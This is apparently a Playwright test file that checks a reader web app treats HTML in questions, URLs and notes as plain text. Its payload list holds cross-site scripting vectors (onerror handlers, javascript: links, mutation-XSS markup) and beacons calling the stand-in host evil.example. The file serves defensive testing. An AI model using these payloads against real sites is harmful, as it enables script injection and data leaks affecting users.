"""Attacks that need a browser: HTML in questions, in links and in the notes themselves is text, and nothing is fetched from elsewhere."""

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from browser import Reader, open_browser
from playwright.sync_api import Browser, Page

PAYLOADS = [
    "<script>window.stolen=1</script>",
    '<img src=x onerror="window.stolen=1">',
    "<svg onload=window.stolen=1>",
    '<a href="javascript:window.stolen=1">x</a>',
    '<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>',
    '<object data="data:text/html,<script>1</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.stolen=1&gt;">',
    "$\\href{javascript:window.stolen=1}{x}$",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.stolen=1>]\n```",
    "![x](http://evil.example/x.png)",
    '<img src="http://evil.example/x.png">',
    '<div style="background:url(http://evil.example/x.png)">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<form action="http://evil.example"><input name=id></form>',
    '<img name="body"><a id="cookie">x</a>',
    '" onmouseover="window.stolen=1" x="',
    "${window.stolen=1}`{{value}}{{#with this}}",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as opened:
        yield opened


def untouched(page: Page) -> bool:
    """Nothing ran, and the thread and panel hold only the page's own kinds of element."""
    foreign = "script, img, svg, iframe, object, meta, math, form, input, [style], [onerror], [onload], [onmouseover]"
    return bool(
        page.evaluate(
            "foreign => window.stolen === undefined"
            " && [...document.querySelectorAll('#thread .html-container > div, #panel .html-container > div')]"
            "    .every(part => !part.querySelector(foreign))",
            foreign,
        )
    )


def test_html_in_questions_is_shown_as_text(browser: Browser, server: str) -> None:
    reader = Reader(browser, server)
    page = reader.visit()
    for payload in PAYLOADS:
        reader.ask(payload)
    shown = page.locator("#thread .question").all_inner_texts()
    assert any("onerror" in text for text in shown)
    page.hover(".marker >> nth=0")
    page.wait_for_timeout(300)
    assert untouched(page)
    page.click("#bar .conversations summary")
    assert untouched(page)
    reader.close()


@pytest.mark.parametrize("payload", [PAYLOADS[1], PAYLOADS[11], PAYLOADS[16]])
def test_html_in_a_link_is_shown_as_text(browser: Browser, server: str, payload: str) -> None:
    reader = Reader(browser, server)
    page = reader.visit(f"/?q={quote(payload)}#{quote(payload)}")
    page.wait_for_selector("#thread .question")
    page.wait_for_selector("#panel .panel-empty")
    assert untouched(page)
    reader.close()


def test_html_in_the_notes_is_shown_as_text_everywhere(browser: Browser, evil_server: str) -> None:
    reader = Reader(browser, evil_server)
    page = reader.visit()
    reader.ask("宽带网络要怎样提速降费？")
    page.locator(".passage summary").first.click()
    page.locator(".marker").first.hover()
    page.wait_for_selector("#card:not([hidden])")
    page.locator(".marker").first.click()
    page.wait_for_selector("#panel mark")
    assert "onerror" in page.locator("#panel .panel-text").inner_text()
    page.click("[data-view=browse]")
    assert "<u>通知</u>" in page.locator(".outline").inner_text()
    assert untouched(page)
    reader.close()
